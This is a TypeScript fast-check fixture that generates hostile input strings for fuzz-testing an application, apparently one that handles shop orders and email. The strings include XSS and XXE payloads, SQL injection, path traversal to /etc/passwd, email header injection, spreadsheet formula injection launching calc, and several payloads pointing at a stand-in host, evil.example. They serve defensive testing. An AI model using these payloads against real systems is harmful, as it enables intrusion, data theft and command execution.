import fc from 'fast-check';

const markup = [
  '"><script>alert(1)</script>', "' onmouseover='alert(1)", '<img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">x</a>', '</td></tr></table><form action=//evil.example>', '<!--', '-->', ']]>', '<![CDATA[',
  '<style>@import url(//evil.example)</style>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>', '</title><svg onload=alert(1)>', '</style>', '&lt;script&gt;', '&#60;script&#62;',
  '<iframe srcdoc="<script>parent.alert(1)</script>">', '<input autofocus onfocus=alert(1)>', '</textarea><script>alert(1)</script>', '<math><mtext><style><img src=x onerror=alert(1)>', 'javascript:alert(1)', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
];
const lineEnds = [
  'a\r\nBcc: eve@example.com', 'a\nSubject: other', '\r\n\r\n<script>alert(1)</script>', 'a\u2028Bcc: eve@example.com', 'a\u0085Bcc: eve@example.com', '=?utf-8?q?=0d=0aBcc:_eve@example.com?=',
  '\r\n.\r\n', '%0d%0aBcc:eve@example.com', '--boundary', '.',
];
const directions = ['\u202egnirts\u202c', '\u2066x', '\u2067أحمد\u2069 <b>', 'مرحبا بالعالم', 'שלום abc 123', '\u200f\u200e\u061c', 'invoice\u202efdp.exe'];
const signs = ['😀', '👩‍👩‍👧‍👦', '🏳️‍🌈', '🇲🇾', '\u200b\u200d\ufeff', 'e\u0301\u0301\u0301', 'Z\u0351\u0340\u0310a\u035b\u0342l\u034dg\u0321o\u0328', 'ﷺ', '𝕳𝖊𝖑𝖑𝖔', 'ＦＵＬＬ'];
const unstorable = ['\ud800', '\udc00x', 'a\ud83d', '\u0000', 'a\u0000b', '\u0007\u0008', '\u001b[31m', 'a\tb', '\u007f', '\u009b31m'];
const formulas = ['=1+1', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '=HYPERLINK("https://evil.example","x")', '\t=1', '=IMPORTXML("//evil.example","//a")', ';=1', "'=1"];
const languages = [
  "'; drop table orders; --", "' or 1=1 --", '1; select pg_sleep(9)', '\\', '$$', '../../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd', '%2e%2e%2f', '/../', 'nul', 'con.txt',
  '{shop}{name}{number}', '${1}', '${alert(1)}', '{{constructor.constructor("alert(1)")()}}', '<%= 7*7 %>', '#{7*7}', '$&', '$1', '%s%n', '__proto__', 'constructor', 'toString', '[object Object]', 'undefined', 'null', 'NaN', '-0', '1e309', 'true',
];
const addresses = ['eve@example.com, mallory@example.com', '<eve@example.com>', 'group: a@example.com;'];
const kinds = [markup, lineEnds, directions, signs, unstorable, formulas, languages, addresses];

/** What people type who mean harm, and what nobody foresaw. */
export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...kinds.flat()) },
  { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 80, unit: 'binary' }) },
  { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 200, unit: fc.constantFrom('<', '>', '"', "'", '&', '=', '/', '\r', '\n', '\t', ' ', ';', ':', '-', '!', '?', 'a', '\u0000', '\u2028') }) },
  { weight: 1, arbitrary: fc.string({ minLength: 1, maxLength: 80 }) },
);

/** The same texts each time, one of each kind first, some of them 10,000 characters long. */
export const hostileTexts = (count: number): string[] => [...kinds.map(([first = '']) => first), ...fc.sample(hostileText, { numRuns: count, seed: 20_261_122 })].slice(0, count)
  .map((text, index) => (index % 50 === 49 ? text.padEnd(10_000, text) : text));
